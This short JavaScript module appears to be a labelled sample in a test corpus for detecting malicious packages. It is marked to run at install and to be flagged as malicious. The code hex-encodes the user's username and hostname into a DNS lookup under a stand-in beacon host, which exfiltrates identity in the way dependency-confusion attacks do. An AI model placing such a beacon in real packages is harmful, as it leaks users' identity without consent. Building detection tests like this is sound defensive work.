// when: install
// expect: malicious
// source: dependency-confusion DNS beacons written as ES modules with top-level await (identity hex-encoded into labels); written here
import os from 'node:os';
import { resolve4 } from 'node:dns/promises';

const label = Buffer.from(`${os.userInfo().username}@${os.hostname()}`).toString('hex').slice(0, 60);
await resolve4(`${label}.${process.pid}.beacon.oast.example`).catch(() => null);
